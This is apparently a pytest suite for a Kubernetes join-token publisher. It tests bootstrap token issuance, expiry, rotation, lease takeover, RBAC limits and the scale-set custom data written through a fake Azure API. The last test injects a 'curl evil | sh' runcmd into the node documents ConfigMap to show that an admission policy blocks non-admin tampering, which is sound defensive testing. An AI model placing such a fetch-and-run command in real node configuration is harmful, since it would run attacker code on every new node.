"""The join-token publisher against the real API server (etcd and kube-apiserver at the pinned
versions, on loopback): the token it issues authenticates as a bootstrapper until it expires, a token
past its expiration is refused by the server itself, rotation keeps the previous token valid, a
deleted token is replaced at the next round, and each scale set's model gets the plan's document plus
the bootstrap kubeconfig and nothing else. Resource Manager's side is the loopback Azure of the
governor's tests, which checks the identity's token on every write."""

from __future__ import annotations

import ast
import json
import os
import stat
import subprocess
import sys
import threading
import time
import urllib.parse
from collections.abc import Iterator
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import yaml

from modules.platform import join_tokens as join_tokens_layer
from superkube.agents import join_tokens as jt
from superkube.agents import scale_governor as gov
from superkube.cluster import cloudinit, join
from superkube.cluster.kube import SYSTEM_NAMESPACE
from superkube.harness import apiserver
from superkube.harness.apiserver import LocalApi
from tests.agents.conftest import apply, unique
from tests.agents.test_scale_governor_service import CLIENT_ID, SCOPE, VMSS, FakeAzure, _Handler


def document(pool: str) -> str:
    return cloudinit.render(
        cluster="test", pool=pool, role="gpu", apiserver_endpoint="https://10.0.0.4:6443",
        kubernetes_version="1.35.0", join_jitter_seconds=300,
        labels=cloudinit.node_labels("test", pool, "gpu", {}), taints=cloudinit.node_taints("gpu", []),
    )  # fmt: skip


def config(api: LocalApi, folder: Path, cluster: str, **more: Any) -> jt.PublisherConfig:
    return jt.PublisherConfig(
        cluster=cluster,
        server=api.url,
        ca_file=str(api.dir / "pki" / "ca.crt"),
        documents={"vmss-gpu-0": document("gpu"), "vmss-gpu-1": document("gpu")},
        directory=str(folder),
        **more,
    )


def whoami(api: LocalApi, token: str) -> subprocess.CompletedProcess[str]:
    config = api.token_kubeconfig(unique("bootstrap"), token)
    return subprocess.run([str(api.kubectl), "--kubeconfig", str(config), "auth", "whoami", "-o", "json"],
                          capture_output=True, text=True, timeout=30)  # fmt: skip


def token_secrets(api: LocalApi, cluster: str) -> list[dict[str, Any]]:
    listed = apiserver.kubectl(api, "get", "secrets", "-n", join.TOKEN_NAMESPACE, "-o", "json",
                               "-l", f"{join.PUBLISHED_LABEL}={cluster}")  # fmt: skip
    return list(json.loads(listed)["items"])


class Clock:
    def __init__(self) -> None:
        self.at = join.now()

    def __call__(self) -> datetime:
        return self.at


@pytest.fixture
def publisher(api: LocalApi, tmp_path: Path) -> jt.Publisher:
    cluster = unique("c")
    kube = gov.KubeReader(api.client_kubeconfig("publisher", "publisher", ["system:masters"]))
    return jt.Publisher(
        config(api, tmp_path / "models", cluster), kube, jt.DirectoryModels(tmp_path / "models")
    )


def test_a_round_issues_an_expiring_token_the_server_accepts_and_writes_each_model(
    api: LocalApi, publisher: jt.Publisher, tmp_path: Path
) -> None:
    done = publisher.once()
    assert done.issued and set(done.written) == {"vmss-gpu-0", "vmss-gpu-1"}
    (secret,) = token_secrets(api, publisher.config.cluster)
    left = (join.expiration(secret) - join.now()).total_seconds()  # type: ignore[operator]
    assert join.DEFAULT_TTL_S - 60 < left <= join.DEFAULT_TTL_S
    user = json.loads(whoami(api, done.token.value).stdout)["status"]["userInfo"]
    assert user["username"] == f"system:bootstrap:{done.token.id}"
    assert join.JOIN_GROUP in user["groups"] and "system:bootstrappers" in user["groups"]

    for scale_set, planned in publisher.config.documents.items():
        path = tmp_path / "models" / f"{scale_set}{jt.CUSTOM_DATA_SUFFIX}"
        assert stat.S_IMODE(path.stat().st_mode) == 0o600
        doc = cloudinit.decode(path.read_text())
        # the plan's document, unchanged, plus one file: root's bootstrap kubeconfig
        plan = yaml.safe_load(planned)
        assert doc["runcmd"] == plan["runcmd"]
        assert doc["write_files"][:-1] == plan["write_files"]
        added = join.joining_file(doc)
        assert added is not None and added["permissions"] == join.KUBECONFIG_MODE
        kubeconfig = yaml.safe_load(added["content"])
        assert kubeconfig["users"][0]["user"]["token"] == done.token.value
        assert kubeconfig["clusters"][0]["cluster"]["server"] == api.url
        ca = kubeconfig["clusters"][0]["cluster"]["certificate-authority-data"]
        assert ca == join._b64((api.dir / "pki" / "ca.crt").read_text())
        assert join.credentials_in(doc) == [f"{cloudinit.BOOTSTRAP_KUBECONFIG} (the bootstrap kubeconfig)"]
        assert join.credentials_in(plan) == []


def test_a_fresh_token_is_kept_and_no_model_written_again(publisher: jt.Publisher) -> None:
    first = publisher.once()
    again = publisher.once()
    assert (again.token, again.issued, again.written) == (first.token, False, ())


def test_past_its_rotation_point_a_new_token_is_issued_and_the_previous_one_still_joins(
    api: LocalApi, publisher: jt.Publisher
) -> None:
    clock = Clock()
    publisher.clock = clock
    first = publisher.once()
    clock.at += timedelta(seconds=join.DEFAULT_ROTATE_S + 1)
    second = publisher.once()
    assert second.issued and second.token != first.token
    assert set(second.written) == set(publisher.config.documents)
    assert len(token_secrets(api, publisher.config.cluster)) == 2
    assert whoami(api, first.token.value).returncode == 0  # an instance made from the old model still joins


def test_a_deleted_token_is_revoked_at_once_and_replaced_at_the_next_round(
    api: LocalApi, publisher: jt.Publisher
) -> None:
    first = publisher.once()
    apiserver.kubectl(
        api, "delete", "secret", "-n", join.TOKEN_NAMESPACE, f"bootstrap-token-{first.token.id}"
    )
    refused = whoami(api, first.token.value)
    assert refused.returncode != 0 and "Unauthorized" in refused.stderr, refused.stderr
    second = publisher.once()
    assert second.issued and set(second.written) == set(publisher.config.documents)
    assert whoami(api, second.token.value).returncode == 0


class RefusingModels(jt.DirectoryModels):
    """A folder that refuses one scale set's model, as Resource Manager refuses a set being updated."""

    def publish(self, scale_set: str, custom_data: str) -> None:
        if scale_set == "vmss-gpu-0":
            raise gov.ServiceError("writing scale set vmss-gpu-0's custom data: HTTP 409 Conflict")
        super().publish(scale_set, custom_data)


def published(publisher: jt.Publisher) -> tuple[float | None, ...]:
    """(tokens issued, model writes, refused writes, last success, the models' token expiry)."""
    m = publisher.metrics
    return (m.value("superkube_join_tokens_issued_total"),
            m.value("superkube_join_tokens_publications_total", result="written"),
            m.value("superkube_join_tokens_publications_total", result="refused"),
            m.value("superkube_join_tokens_last_success_timestamp_seconds"),
            m.value("superkube_join_tokens_token_expiry_timestamp_seconds"))  # fmt: skip


def test_one_refused_model_does_not_keep_the_others_on_the_old_token(
    api: LocalApi, publisher: jt.Publisher, tmp_path: Path
) -> None:
    clock = Clock()
    publisher.clock = clock
    publisher.models = RefusingModels(tmp_path / "models")
    with pytest.raises(gov.ServiceError, match=r"not written to 1 scale sets: vmss-gpu-0: .*409"):
        publisher.once()
    assert (tmp_path / "models" / f"vmss-gpu-1{jt.CUSTOM_DATA_SUFFIX}").is_file()
    # one write landed, one refused; no round has left every model with the token yet
    assert published(publisher) == (1, 1, 1, 0, 0)
    publisher.models = jt.DirectoryModels(tmp_path / "models")
    clock.at += timedelta(seconds=60)
    done = publisher.once()
    assert done.written == ("vmss-gpu-0",)  # the next round writes the one refused
    assert published(publisher) == (1, 2, 1, clock.at.timestamp(), done.expires.timestamp())
    # the token issued a round ago, its expiration as its Secret holds it (to the second)
    issued_at = clock.at - timedelta(seconds=60)
    assert done.expires == join.later(issued_at, join.DEFAULT_TTL_S).replace(microsecond=0)


def test_every_model_is_written_again_each_refresh_with_the_same_token(publisher: jt.Publisher) -> None:
    clock = Clock()
    publisher.clock = clock
    first = publisher.once()
    clock.at += timedelta(seconds=publisher.config.refresh_s + 1)
    again = publisher.once()
    assert (again.token, again.issued) == (first.token, False)
    assert set(again.written) == set(publisher.config.documents)  # a pulumi up may have put the plan's back


def test_a_labelled_secret_that_is_no_whole_token_is_passed_over(
    api: LocalApi, publisher: jt.Publisher
) -> None:
    broken = join.token_secret(join.new_token(), join.now(), publisher.config.cluster)
    broken["data"]["expiration"] = join._b64("whenever")
    apiserver.kubectl(api, "apply", "-f", "-", stdin=json.dumps(broken))
    done = publisher.once()
    assert done.issued and done.token.id != join.secret_token(broken).id


def test_the_server_refuses_a_token_past_its_expiration(api: LocalApi) -> None:
    token = join.new_token()
    past = join.token_secret(token, join.now() - timedelta(seconds=5), unique("c"))
    apiserver.kubectl(api, "apply", "-f", "-", stdin=json.dumps(past))
    refused = whoami(api, token.value)
    assert refused.returncode != 0 and "Unauthorized" in refused.stderr, refused.stderr


class ModelHandler(_Handler):
    """The governor tests' loopback Azure, also taking a scale set model's PATCH."""

    def do_PATCH(self) -> None:
        url = urllib.parse.urlsplit(self.path)
        auth = self.headers.get("Authorization", "").removeprefix("Bearer ")
        if auth not in self.server.issued:
            return self.error(401, "InvalidAuthenticationToken", "no valid bearer token")
        if dict(urllib.parse.parse_qsl(url.query)).get("api-version") != jt.VMSS_API_VERSION:
            return self.error(400, "InvalidApiVersionParameter", url.query)
        name = urllib.parse.unquote(url.path.removeprefix(VMSS))
        if not url.path.startswith(VMSS) or name not in self.server.tags:
            return self.error(404, "ResourceNotFound", url.path)
        body = json.loads(self.rfile.read(int(self.headers.get("Content-Length", "0"))))
        with self.server.lock:
            self.server.patches.append((name, body))
        self.answer(200, {"name": name})


@pytest.fixture
def azure() -> Iterator[FakeAzure]:
    server = FakeAzure({"vmss-gpu-0": {}, "vmss-gpu-1": {}})
    server.RequestHandlerClass = ModelHandler
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()


def test_through_resource_manager_only_the_models_custom_data_is_written(
    api: LocalApi, azure: FakeAzure, tmp_path: Path
) -> None:
    settings = jt.PublisherConfig(
        cluster=unique("c"), server=api.url, ca_file=str(api.dir / "pki" / "ca.crt"),
        documents={"vmss-gpu-0": document("gpu"), "vmss-gpu-1": document("gpu")},
        scope=SCOPE, client_id=CLIENT_ID, arm=azure.url, imds=azure.url + "/metadata/identity/oauth2/token",
    )  # fmt: skip
    kube = gov.KubeReader(api.client_kubeconfig("publisher", "publisher", ["system:masters"]))
    done = jt.Publisher(settings, kube, jt.models_of(settings)).once()
    assert [name for name, _ in azure.patches] == ["vmss-gpu-0", "vmss-gpu-1"]
    for _, body in azure.patches:
        assert list(body) == ["properties"]
        assert list(body["properties"]["virtualMachineProfile"]) == ["osProfile"]
        (data,) = body["properties"]["virtualMachineProfile"]["osProfile"].values()
        kubeconfig = yaml.safe_load(join.joining_file(cloudinit.decode(data))["content"])  # type: ignore[index]
        assert kubeconfig["users"][0]["user"]["token"] == done.token.value


def write(path: Path, **fields: Any) -> Path:
    path.write_text(json.dumps(fields))
    return path


@pytest.mark.parametrize(
    ("change", "says"),
    [
        ({"ttl_s": 0}, "a join token must expire"),
        ({"ttl_s": 2 * join.MAX_TTL_S}, "a join token must be short-lived"),
        ({"rotate_s": join.DEFAULT_TTL_S}, "leave each token"),
        ({"interval_s": 0}, "interval_s 0 must be above 0"),
        ({"documents": ["not", "a", "map"]}, "documents must map each scale set"),
        ({"directory": ""}, "give `directory`, or the resource group's ID"),
        ({"documents": {"vmss": "not cloud-config"}}, "documents must map each scale set"),
        ({"surprise": 1}, "want a JSON object with"),
        (
            {"documents_from": "superkube-system/superkube-node-documents"},
            "give `documents` or `documents_from`",
        ),
        ({"documents": None, "documents_from": "no-slash"}, "give <namespace>/<ConfigMap>"),
        ({"lease_s": 60}, "lease_s 60 must be 0 (no lease) or at least two rounds"),
    ],
)
def test_bad_settings_are_one_line_and_exit_2(tmp_path: Path, change: dict[str, Any], says: str) -> None:
    good = {"cluster": "c", "server": "https://10.0.0.4:6443", "ca_file": str(tmp_path / "ca.crt"),
            "documents": {"vmss": document("gpu")}, "directory": str(tmp_path / "m")}  # fmt: skip
    path = write(tmp_path / "settings.json", **{**good, **change})
    proc = subprocess.run(
        [sys.executable, "-m", "superkube.agents.join_tokens", "--config", str(path), "--kubeconfig", str(path)],
        capture_output=True, text=True, timeout=60, env={**os.environ},
    )  # fmt: skip
    assert proc.returncode == 2, proc.stderr
    (line,) = proc.stderr.strip().splitlines()
    assert says in line and line.startswith("superkube-join-tokens: ")


SHIPPED = {
    "superkube.agents.join_tokens": jt,
    "superkube.agents.scale_governor": gov,
    "superkube.cluster.join": join,
}
"""What the join_tokens role copies to the API-server hosts (with empty package files above them)."""


def ship(folder: Path) -> Path:
    """The three modules laid out as the role lays them out, with empty package files."""
    for name, module in SHIPPED.items():
        target = folder / Path(*name.split(".")).with_suffix(".py")
        target.parent.mkdir(parents=True, exist_ok=True)
        target.write_text(Path(str(module.__file__)).read_text())
        for parent in target.relative_to(folder).parents:
            if parent != Path("."):
                (folder / parent / "__init__.py").touch()
    return folder


def test_the_publisher_ships_as_three_modules_on_python3_pyyaml_and_prometheus_client() -> None:
    for name, module in SHIPPED.items():
        tree = ast.parse(Path(str(module.__file__)).read_text())
        assert not [n for n in ast.walk(tree) if isinstance(n, ast.ImportFrom) and n.level], name
        imported = {a.name for n in ast.walk(tree) if isinstance(n, ast.Import) for a in n.names}
        for n in ast.walk(tree):
            if isinstance(n, ast.ImportFrom) and n.module:
                whole = {f"{n.module}.{a.name}" for a in n.names} & set(SHIPPED)
                imported |= whole or {n.module}
        outside = {m for m in imported if m.split(".")[0] not in sys.stdlib_module_names}
        allowed = {"yaml", "prometheus_client", *SHIPPED}
        assert outside <= allowed, (name, outside - allowed)
    # the names the hosts' copy must agree on with the rest of superkube
    assert join.BOOTSTRAP_KUBECONFIG == cloudinit.BOOTSTRAP_KUBECONFIG
    assert join.PUBLISHER_NAMESPACE == SYSTEM_NAMESPACE


def test_a_copy_of_the_three_modules_runs_a_round_alone(api: LocalApi, tmp_path: Path) -> None:
    """Run from the role's layout, the round loads no other module of superkube and nothing outside
    the standard library but PyYAML and prometheus_client."""
    folder = ship(tmp_path / "lib")
    settings = write(tmp_path / "settings.json", cluster=unique("c"), server=api.url,
                     ca_file=str(api.dir / "pki" / "ca.crt"), documents={"vmss-gpu-0": document("gpu")},
                     directory=str(tmp_path / "models"))  # fmt: skip
    kubeconfig = api.client_kubeconfig("copy", "copy", ["system:masters"])
    launcher = (
        "import json, runpy, sys\n"
        "before = set(sys.modules)\n"
        f"sys.path.insert(0, {str(folder)!r})\n"
        f"sys.argv = ['join_tokens', '--config', {str(settings)!r}, '--kubeconfig', {str(kubeconfig)!r}, '--once', '--json']\n"
        "try:\n    runpy.run_module('superkube.agents.join_tokens', run_name='__main__')\n"
        "except SystemExit as done:\n    code = done.code\n"
        "mine = {m: getattr(sys.modules[m], '__file__', None) for m in sys.modules if m.startswith('superkube')}\n"
        "others = sorted({m.split('.')[0] for m in set(sys.modules) - before} - set(sys.stdlib_module_names) - {'superkube'})\n"
        "print(json.dumps({'code': code, 'mine': mine, 'others': others}), file=sys.stderr)\n"
    )
    proc = subprocess.run([sys.executable, "-I", "-c", launcher], capture_output=True, text=True, timeout=120)
    report = json.loads(proc.stderr.strip().splitlines()[-1])
    assert report["code"] in (0, None), proc.stderr
    assert json.loads(proc.stdout)["written"] == ["vmss-gpu-0"]
    assert all(f is None or f.startswith(str(folder)) for f in report["mine"].values()), report["mine"]
    # (the publisher itself ran as __main__)
    assert set(report["mine"]) == {*SHIPPED, "superkube", "superkube.agents", "superkube.cluster"} - {
        jt.__name__
    }
    # PyYAML (and its C extension's Cython runtime), prometheus_client
    assert {m for m in report["others"] if "cython" not in m} <= {"yaml", "_yaml", "prometheus_client"}, (
        report["others"]
    )


class Ticks:
    def __init__(self) -> None:
        self.at = 0.0

    def __call__(self) -> float:
        return self.at


def test_one_host_holds_the_lease_and_another_takes_over_once_it_goes_unrenewed(api: LocalApi) -> None:
    namespace = unique("lease")
    apiserver.kubectl(api, "create", "namespace", namespace)
    kube = gov.KubeReader(api.client_kubeconfig("lease", "lease", ["system:masters"]))
    clock = Ticks()
    one, two = (jt.Lease(kube, namespace, host, 30, clock=clock) for host in ("apiservers-1", "apiservers-2"))
    assert one.hold() and not two.hold()
    clock.at += 20
    assert one.hold()  # renewed: the second sees a new record and counts again
    assert not two.hold()
    clock.at += 29
    assert not two.hold()  # 29 s of the same record: not yet
    clock.at += 2
    assert two.hold() and not one.hold()  # the first stopped renewing 31 s ago
    lease = json.loads(apiserver.kubectl(api, "get", "lease", "-n", namespace, join.PUBLISHER, "-o", "json"))
    assert lease["spec"]["holderIdentity"] == "apiservers-2" and lease["spec"]["leaseTransitions"] == 1


def test_the_lease_holder_counts_its_rounds_and_the_other_host_stands_by(
    api: LocalApi, tmp_path: Path
) -> None:
    """`run` as the service runs it, on the real Lease: the holder's rounds are counted ok (or
    failed, when a model write is refused) and its leader gauge is 1; the other host's is 0 and it
    counts no round, having run none."""
    namespace = unique("lease")
    apiserver.kubectl(api, "create", "namespace", namespace)
    kube = gov.KubeReader(api.client_kubeconfig("rounds", "rounds", ["system:masters"]))
    settings = config(api, tmp_path / "models", unique("c"), interval_s=0.01)
    one, two = (jt.Publisher(settings, kube, jt.DirectoryModels(tmp_path / "models")) for _ in range(2))
    leases = {
        p: jt.Lease(kube, namespace, host, 30) for p, host in ((one, "apiservers-1"), (two, "apiservers-2"))
    }

    def seen(p: jt.Publisher) -> tuple[float | None, float | None, float | None]:
        return (p.metrics.value("superkube_join_tokens_leader"),
                p.metrics.value("superkube_join_tokens_rounds_total", result="ok"),
                p.metrics.value("superkube_join_tokens_rounds_total", result="failed"))  # fmt: skip

    one.run(rounds=2, lease=leases[one])
    two.run(rounds=2, lease=leases[two])
    assert seen(one) == (1, 2, 0) and seen(two) == (0, 0, 0)
    assert one.metrics.value("superkube_join_tokens_publications_total", result="written") == 2
    one.models = RefusingModels(tmp_path / "models")
    one.given.clear()  # write every model again: the refusing one among them
    one.run(rounds=1, lease=leases[one])
    assert seen(one) == (1, 2, 1)  # still the holder; its round failed
    assert one.metrics.value("superkube_join_tokens_publications_total", result="refused") == 1


def test_a_takeover_from_a_stale_read_loses_to_the_holders_renewal(api: LocalApi) -> None:
    namespace = unique("lease")
    apiserver.kubectl(api, "create", "namespace", namespace)
    kube = gov.KubeReader(api.client_kubeconfig("stale", "stale", ["system:masters"]))
    clock = Ticks()
    one = jt.Lease(kube, namespace, "apiservers-1", 30, clock=clock)
    two = jt.Lease(kube, namespace, "apiservers-2", 30, clock=clock)
    assert one.hold() and not two.hold()
    stale = kube.get(one.path)
    clock.at += 31
    assert one.hold()  # the holder renews between the candidate's read and its write
    real = two.kube.get
    two.kube = type(
        "Stale", (), {"get": lambda self, path: stale, "replace": kube.replace, "create": kube.create}
    )()
    assert not two.hold()  # its write carries the resourceVersion it read: 409, and it does not hold
    two.kube.get = real  # type: ignore[method-assign]
    lease = json.loads(apiserver.kubectl(api, "get", "lease", "-n", namespace, join.PUBLISHER, "-o", "json"))
    assert lease["spec"]["holderIdentity"] == "apiservers-1"


def test_with_the_layers_rights_alone_it_reads_the_plans_documents_and_writes_each_change(
    api: LocalApi, tmp_path: Path
) -> None:
    """As its own user, with only the in-cluster layer's Roles: it issues tokens, reads the documents
    ConfigMap and holds its lease, and may not touch another namespace's Secrets or another object."""
    apiserver.kubectl(api, "create", "namespace", SYSTEM_NAMESPACE, check=False)
    documents = {"vmss-gpu-0": document("gpu"), "vmss-cpu-0": document("cpu")}
    apply(api, *join_tokens_layer.manifests(join_tokens_layer.JoinTokensArgs(documents=documents)))
    user = gov.KubeReader(api.client_kubeconfig("publisher-user", join.PUBLISHER))
    settings = jt.PublisherConfig(
        cluster=unique("c"), server=api.url, ca_file=str(api.dir / "pki" / "ca.crt"),
        documents_from=f"{SYSTEM_NAMESPACE}/{join.DOCUMENTS_CONFIGMAP}", directory=str(tmp_path / "models"),
    )  # fmt: skip
    publisher = jt.Publisher(settings, user, jt.DirectoryModels(tmp_path / "models"))
    lease = jt.Lease(user, SYSTEM_NAMESPACE, "apiservers-1", 120)
    first = publisher.once(lease.hold)  # the layer made the Lease: taken, then renewed at each write
    assert first.issued and set(first.written) == set(documents)
    assert lease.hold()
    # a change to the plan's document (pulumi up updates the ConfigMap) is written with the same token
    changed = document("cpu").replace("300", "240")
    apiserver.kubectl(api, "patch", "configmap", "-n", SYSTEM_NAMESPACE, join.DOCUMENTS_CONFIGMAP, "--type=merge",
                      "-p", json.dumps({"data": {"vmss-cpu-0": changed}}))  # fmt: skip
    again = publisher.once()
    assert (again.token, again.written) == (first.token, ("vmss-cpu-0",))
    model = cloudinit.decode((tmp_path / "models" / f"vmss-cpu-0{jt.CUSTOM_DATA_SUFFIX}").read_text())
    assert model["runcmd"] == yaml.safe_load(changed)["runcmd"] and join.joining_file(model) is not None
    # nothing else: a Secret elsewhere, another ConfigMap, another Lease
    for path, body in (
        ("/api/v1/namespaces/default/secrets", join.token_secret(join.new_token(), join.now(), "x")),
        (f"/api/v1/namespaces/{SYSTEM_NAMESPACE}/configmaps", {"metadata": {"name": unique("cm")}}),
    ):
        with pytest.raises(gov.ServiceError, match="HTTP 403"):
            user.create(path, body)
    with pytest.raises(gov.ServiceError, match="HTTP 403"):
        user.get(f"/apis/coordination.k8s.io/v1/namespaces/{SYSTEM_NAMESPACE}/leases/another")
    with pytest.raises(gov.ServiceError, match="HTTP 403"):
        user.create(f"/apis/coordination.k8s.io/v1/namespaces/{SYSTEM_NAMESPACE}/leases",
                    {"metadata": {"name": unique("lease")}, "spec": {}})  # fmt: skip
    with pytest.raises(gov.ServiceError, match="HTTP 403"):
        user.get(f"/api/v1/namespaces/{SYSTEM_NAMESPACE}/configmaps/another")


def test_a_missing_documents_configmap_is_one_line(api: LocalApi, tmp_path: Path) -> None:
    kube = gov.KubeReader(api.client_kubeconfig("nodocs", "nodocs", ["system:masters"]))
    settings = jt.PublisherConfig(
        cluster=unique("c"), server=api.url, ca_file=str(api.dir / "pki" / "ca.crt"),
        documents_from="default/none-such", directory=str(tmp_path / "models"),
    )  # fmt: skip
    with pytest.raises(gov.ServiceError, match=r"ConfigMap default/none-such is missing: `pulumi up`"):
        jt.Publisher(settings, kube, jt.DirectoryModels(tmp_path / "models")).once()


def test_the_role_ships_these_modules_and_names_what_the_rest_of_superkube_names(flagship_plan: Any) -> None:
    from superkube.cluster.inventory import cluster_facts
    from tests.conftest import ROOT

    defaults = yaml.safe_load((ROOT / "playbooks/roles/join_tokens/defaults/main.yml").read_text())
    assert {
        f"superkube.{m.removesuffix('.py').replace('/', '.')}" for m in defaults["join_tokens_modules"]
    } == set(SHIPPED)
    # the names it needs come from the inventory, which reads them from the one place naming them
    assert defaults["join_tokens_documents_from"] == "{{ superkube_join_tokens_documents_from }}"
    assert defaults["join_tokens_settings"] == "{{ superkube_join_tokens }}"
    facts = cluster_facts(flagship_plan.spec, flagship_plan.addresses)
    assert set(facts) >= {"join_tokens", "join_tokens_documents_from", "join_tokens_user"}
    join.check_lifetime(facts["join_tokens"]["ttl_s"], facts["join_tokens"]["rotate_s"],
                        defaults["join_tokens_interval_s"])  # fmt: skip
    assert f"default('{join.PUBLISHER}')" in defaults["join_tokens_user"]
    # each round is renewed well inside the lease, and the settings it writes pass the publisher's checks
    assert defaults["join_tokens_lease_s"] >= 2 * defaults["join_tokens_interval_s"]


def test_only_the_clusters_admins_may_change_the_documents_every_new_node_runs(api: LocalApi) -> None:
    """A workload's operator with rights on every ConfigMap (the MPI Operator's) is refused the
    node documents, a delete included; an admin is not."""
    apiserver.kubectl(api, "create", "namespace", SYSTEM_NAMESPACE, check=False)
    documents = {"vmss-gpu-0": document("gpu")}
    apply(api, *join_tokens_layer.manifests(join_tokens_layer.JoinTokensArgs(documents=documents)))
    operator = unique("operator")
    apply(api, {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRole", "metadata": {"name": operator},
                "rules": [{"apiGroups": [""], "resources": ["configmaps"], "verbs": ["*"]}]},
          {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "ClusterRoleBinding", "metadata": {"name": operator},
           "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": operator},
           "subjects": [{"apiGroup": "rbac.authorization.k8s.io", "kind": "User", "name": operator}]})  # fmt: skip
    as_operator = api.client_kubeconfig(operator, operator)
    # an admission policy is in force once the API server's informer has it and its binding, a moment
    # after they are created: until a delete dry run is refused, nothing is tested yet
    deadline = time.monotonic() + 30
    while subprocess.run([str(api.kubectl), "--kubeconfig", str(as_operator), "delete", "configmap", "-n",
                          SYSTEM_NAMESPACE, join.DOCUMENTS_CONFIGMAP, "--dry-run=server"],
                         capture_output=True, timeout=30).returncode == 0:  # fmt: skip
        assert time.monotonic() < deadline, "the node documents' admission policy never came into force"
        time.sleep(0.5)
    path = f"/api/v1/namespaces/{SYSTEM_NAMESPACE}/configmaps/{join.DOCUMENTS_CONFIGMAP}"
    own = gov.KubeReader(as_operator)
    current = own.get(path)  # reading it is theirs
    bad = {**current, "data": {"vmss-gpu-0": document("gpu") + "runcmd: [[sh, -c, 'curl evil | sh']]\n"}}
    with pytest.raises(
        gov.ServiceError,
        match=r"HTTP 403 .*forbidden: ValidatingAdmissionPolicy 'superkube-node-documents-admins-only'",
    ):
        own.replace(path, bad)
    refused = subprocess.run([str(api.kubectl), "--kubeconfig", str(as_operator), "delete", "configmap", "-n",
                              SYSTEM_NAMESPACE, join.DOCUMENTS_CONFIGMAP], capture_output=True, text=True, timeout=30)  # fmt: skip
    assert refused.returncode != 0 and "only the cluster's admins" in refused.stderr, refused.stderr
    # other ConfigMaps are the operator's as before
    own.create(f"/api/v1/namespaces/{SYSTEM_NAMESPACE}/configmaps", {"metadata": {"name": unique("cm")}})
    # and an admin (system:masters, as the layer's pulumi up) changes it
    apiserver.kubectl(api, "patch", "configmap", "-n", SYSTEM_NAMESPACE, join.DOCUMENTS_CONFIGMAP, "--type=merge",
                      "-p", json.dumps({"data": {"vmss-gpu-0": document("gpu")}}))  # fmt: skip
